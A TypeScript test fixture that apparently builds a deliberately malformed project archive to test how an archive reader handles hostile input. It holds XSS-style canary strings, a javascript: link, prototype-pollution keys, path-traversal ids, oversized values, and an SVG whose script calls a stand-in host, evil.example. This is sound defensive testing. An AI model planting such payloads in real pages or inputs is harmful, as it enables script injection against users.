// A project of two runs in which every text tries to run, every list may be something else, and every size is too large; one story is gone in the second.
import { join } from 'node:path';
import Libsql from 'libsql';
import { facts, listOf, newLastingFolder, openRun, page } from '../archive/small-archive.ts';
import type { Row } from '../archive/staged-pages.ts';
import { attack, endless, markdown, markdownBlocks, wide } from './hostile-texts.ts';

export const oddIds = [
  '"><canary-x>',
  `'onclick='pwned=1`,
  '../../x/y',
  '%2e%2e%2fx',
  '__proto__',
  'constructor',
  '12345678901234567890123',
  'a b,c:d',
  '日本\u202e',
  'half\ud800',
  '</script>',
  'NaN',
  '-1',
];

const texts =
  `name title description text story_type current_state story_priority estimate created_at updated_at accepted_at deadline external_id url kind status owner
  repo original_url filename content_type alternate_link google_id username initials email point_scale start_date time_zone resource_kind message highlight
  operation number host_url emoji_code state occurred_at`.split(/\s+/u);

type Attributes = Readonly<Record<string, unknown>>;

function hostile(id: string, more: Attributes = {}): Row {
  return { key: id, text: JSON.stringify({ id, ...Object.fromEntries(texts.map((name) => [name, attack])), ...more }) };
}

const types = ['feature', 'bug', 'chore', 'release', attack, '__proto__'];
const states = ['unscheduled', 'unstarted', 'planned', 'started', 'finished', 'delivered', 'rejected', 'accepted'];
const estimates = ['NaN', -5, 1e308, '1e999', attack, null, [3], { points: 3 }, true, '0x10', 0.1];
const dates = [
  attack,
  1e300,
  -8.64e15,
  '9999-12-31T23:59:59Z',
  '-000001-01-01T00:00:00Z',
  '2024-02-31',
  'Infinity',
  {},
  [],
];

const nested = (id: string): NonNullable<Row['nested']> => ({
  tasks: [hostile(`t${id}`), { key: `u${id}`, text: '{"id":1,"description":{"a":[1]},"complete":"yes"}' }],
  blockers: [hostile(`b${id}`, { person_id: attack, resolved: 'no' })],
  reviews: [hostile(`r${id}`, { review_type: { name: attack }, reviewer_id: '__proto__' })],
  pull_requests: [hostile(`p${id}`)],
  branches: [hostile(`h${id}`)],
  cicd_events: [hostile(`e${id}`)],
  transitions: [hostile(`n${id}`, { story_id: id, performed_by_id: attack })],
  comments: [
    {
      ...hostile(`c${id}`, { person: { name: attack }, person_id: 'constructor' }),
      nested: {
        file_attachments: [
          hostile(`f${id}`, { size: -1, width: 1e9, height: 'x', thumbnail_url: 'https://evil.example/t.png' }),
        ],
        google_attachments: [hostile(`g${id}`, { alternate_link: 'javascript:window.pwned=1' })],
        reactions: [hostile(`s${id}`)],
      },
    },
  ],
});

const comment = (key: string, text: string, more: Attributes = {}): Row => ({
  key,
  text: JSON.stringify({ id: key, text, ...more }),
});
const plain = (id: string, name: string, more: Attributes = {}): Row => ({
  key: id,
  text: JSON.stringify({ id, name, story_type: 'feature', current_state: 'started', ...more }),
});

/** Contents that are there, by name and declared type. */
export const files = {
  svg: [
    'x.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1;fetch("https://evil.example/")</script></svg>',
  ],
  html: ['x.png', 'image/png', '<!doctype html><script>window.pwned=1</script>'],
  page: [attack, 'text/html', '<script>window.pwned=1</script>'],
} as const;

const oddStories = oddIds.map((id, at): Row => ({
  ...hostile(id, {
    story_type: types[at % types.length],
    current_state: at > 9 ? attack : states[at % states.length],
    estimate: estimates[at % estimates.length],
    labels: [{ id: attack, name: attack }, null, 7, { id: {}, name: [] }],
    owner_ids: [attack, '__proto__', null, {}, id],
    requested_by_id: attack,
    follower_ids: [attack, 'constructor'],
    accepted_at: dates[at % dates.length],
    created_at: dates[(at + 1) % dates.length],
    deadline: dates[(at + 2) % dates.length],
  }),
  nested: nested(id),
}));

const many = (count: number, prefix: string): Attributes[] =>
  Array.from({ length: count }, (_, at) => ({ id: `${prefix}${at}`, name: `${prefix} ${at} <canary-x>` }));
const manyLabels = many(5000, 'label');

const stories: Row[] = [
  ...oddStories,
  {
    ...plain('1', `Markdown ${attack}`, { description: markdown }),
    nested: {
      comments: [
        ...markdownBlocks.map((text, at) => comment(`m${at}`, text)),
        comment('deep', `${'> '.repeat(4000)}deep`),
        comment('longest', markdownBlocks.join('\n\n').repeat(3)),
      ],
    },
  },
  {
    ...plain('2', 'A long comment'),
    nested: { comments: [comment('l1', `${attack} ${'long word '.repeat(1_000_000)}`)] },
  },
  {
    ...plain('3', endless, {
      description: endless,
      labels: [{ id: 'endless', name: endless }],
      owner_ids: ['endless'],
      estimate: 3,
      story_type: endless.slice(0, 5000),
      current_state: endless.slice(0, 5000),
    }),
    nested: {
      tasks: [comment('e1', '', { description: endless })],
      comments: [comment('e2', wide, { person_id: 'endless' })],
    },
  },
  plain('4', 'Many names', {
    labels: manyLabels,
    owner_ids: many(2000, 'person').map(({ id }) => id),
    follower_ids: many(2000, 'person').map(({ id }) => id),
    estimate: 8,
  }),
  {
    ...plain('5', 'With files'),
    nested: {
      comments: [
        {
          ...comment('f', attack),
          nested: {
            file_attachments: Object.entries(files).map(([id, [filename, content_type, text]]) => ({
              key: id,
              text: JSON.stringify({ id, filename, content_type, size: text.length }),
            })),
          },
        },
      ],
    },
  },
  ...[
    '{}',
    '{"id":900}',
    '{"id":901,"name":{"__proto__":{"x":1}},"labels":{},"owner_ids":"x","comments":7}',
    '{"id":902,"__proto__":{"name":"x"},"constructor":{"name":"y"},"name":null,"estimate":1e400}',
    '{"id":903,"name":"\\ud800","labels":null,"owner_ids":null,"description":null,"current_state":null,"story_type":null}',
    '{"id":904}',
  ].map((text, at) => ({ key: `s${at}`, text })),
];

/** Two epics that share a label, labels that name each other, epics without one. */
const epics: Row[] = [
  ...oddIds.map((id) => ({
    ...hostile(id, { label: { id: attack, name: attack, epic_id: id } }),
    nested: { epic_comments: [hostile(`e${id}`)] },
  })),
  plain('E1', endless, { label: { id: 'endless', name: endless }, label_id: 'endless', description: markdown }),
  plain('E2', 'Round and round', { label: { id: 'endless', name: endless, epic: { id: 'E1' } } }),
  plain('E3', 'No label', { label: [] }),
];

const iteration = (key: string, more: Attributes): Row => ({ ...hostile(key, { number: key, kind: 'done', ...more }) });
const iterations: Row[] = [
  iteration('1', {
    number: 1,
    start: '2024-04-01T00:00:00Z',
    finish: '2024-04-08T00:00:00Z',
    story_ids: [oddIds[0], oddIds[7], '3', '3', null, {}],
    velocity: attack,
    team_strength: -4,
    length: 1e9,
  }),
  iteration('2', { number: 2, start: 1e300, finish: attack, story_ids: 'x' }),
  iteration('x', { number: attack, start: null, finish: null, story_ids: [[1]] }),
  iteration('3', { number: -3, start: '9999-12-31T23:59:59Z', finish: '0001-01-01T00:00:00Z', stories: {} }),
];

const activity = (guid: string, more: Attributes): Row => ({
  key: guid,
  text: JSON.stringify({
    guid,
    kind: attack,
    message: attack,
    highlight: attack,
    performed_by: { id: attack, name: attack },
    ...more,
  }),
});
const activities: Row[] = [
  activity('g1', {
    occurred_at: '2024-04-02T00:00:00Z',
    primary_resources: [{ kind: 'story', id: '1', name: attack }],
    changes: [
      {
        kind: 'story',
        id: '1',
        change_type: attack,
        original_values: { name: attack, description: endless, labels: {} },
        new_values: { name: `${attack}!`, description: markdown, current_state: attack },
      },
    ],
  }),
  activity('g2', { occurred_at: 1e300, primary_resources: [1, null, { kind: 'story', id: [1] }], changes: 'x' }),
  activity('g3', {
    occurred_at: {},
    primary_resources: { kind: 'story', id: '1' },
    changes: [null, 7, { kind: 'story', id: '1', new_values: [] }],
  }),
];

const project = hostile('99', {
  iteration_length: -1,
  week_start_day: attack,
  current_iteration_number: 'x',
  current_velocity: attack,
  description: markdown,
  public: attack,
  labels: {},
  time_zone: { olson_name: attack, offset: attack },
});

const gap = {
  resource: 'tasks',
  owner: { resource: 'stories', key: attack, name: attack },
  key: attack,
  what: attack,
  status: 599,
  words: `${attack} ${wide}`,
  attempts: 2 ** 31,
} as const;

async function run(folder: string, kept: readonly Row[], startedAt: number): Promise<void> {
  const open = await openRun(folder, { startedAt });
  open.stagePage(
    page(listOf('project'), [
      { ...project, nested: { review_types: [hostile('rt')], story_templates: [hostile('st')] } },
    ]),
  );
  const people = [
    hostile(attack),
    hostile('__proto__'),
    { key: 'endless', text: JSON.stringify({ id: 'endless', name: endless, initials: endless }) },
    ...many(2000, 'person').map((each) => ({ key: String(each['id']), text: JSON.stringify(each) })),
  ];
  const memberships = [
    hostile('mb', { person: { id: attack, name: attack }, role: attack }),
    plain('mb2', '', { person: [] }),
  ];
  open.stagePage({
    ...page(listOf('memberships'), memberships),
    people: people.map(({ key, text }) => ({ id: key, text })),
  });
  const labels = [
    hostile(attack, { counts: attack }),
    plain('endless', endless),
    ...oddIds.map((id) => hostile(id)),
    ...manyLabels.map((each) => ({ key: String(each['id']), text: JSON.stringify(each) })),
  ];
  open.stagePage(page(listOf('labels'), labels));
  open.stagePage(page(listOf('epics'), epics));
  open.stagePage(page(listOf('stories'), kept));
  open.stagePage(page(listOf('iterations'), iterations));
  open.stagePage(
    page(listOf('releases'), [
      ...oddIds.map((id) => hostile(id, { story_ids: [id, null, {}] })),
      plain('endless', endless, { deadline: 1e300 }),
    ]),
  );
  open.stagePage(page(listOf('activities'), activities));
  open.stagePage(
    page(listOf('history_days'), [
      { key: '2024-04-01', text: JSON.stringify({ date: '2024-04-01', points_accepted: 'x', counts: { a: attack } }) },
      hostile('d', { date: attack }),
    ]),
  );
  for (const name of ['saved_searches', 'webhooks', 'integrations', 'generic_integrations'] as const)
    open.stagePage(
      page(
        listOf(name),
        oddIds.map((id) => hostile(`${name}${id}`)),
      ),
    );
  for (const [id, [name, , text]] of Object.entries(files)) {
    const writer = open.openAttachment(id, name);
    await writer.write(Buffer.from(text));
    await writer.end();
  }
  open.commit({ ...facts(), projectName: attack, projectVersion: attack, gaps: [gap] }, { acceptShrink: true });
  await open.publish();
  await open.close();
}

export const goneId = 'gone"><canary-x>';

export async function hostileProject(): Promise<string> {
  const folder = join(newLastingFolder(), 'archive');
  const gone: Row = {
    ...hostile(goneId, { description: markdown, labels: [{ id: attack, name: attack }] }),
    nested: nested(goneId),
  };
  await run(folder, [gone, ...stories], Date.UTC(2024, 4, 1, 10));
  const renamed = plain('1', `Markdown, ${attack} again`, { description: `${markdown}\n\n<canary-x>` });
  await run(
    folder,
    stories.map((each) => (each.key === '1' ? { ...each, text: renamed.text } : each)),
    Date.UTC(2024, 4, 2, 10),
  );
  breakRows(folder);
  return folder;
}

/** As a damaged disk or a hand with an editor leaves them. */
function breakRows(folder: string): void {
  const database = new Libsql(join(folder, 'archive.sqlite'));
  const set = (key: string, value: string): void => {
    database.exec(
      `UPDATE versions SET text = ${value} WHERE record_id IN (SELECT id FROM records WHERE key = '${key}')`,
    );
  };
  set('s0', `'no JSON at all <canary-x>'`);
  set('s1', `x'ff00fe'`);
  set('s5', `'[1,2,3]'`);
  set('E3', `'null'`);
  set('mb2', `''`);
  database.close();
}
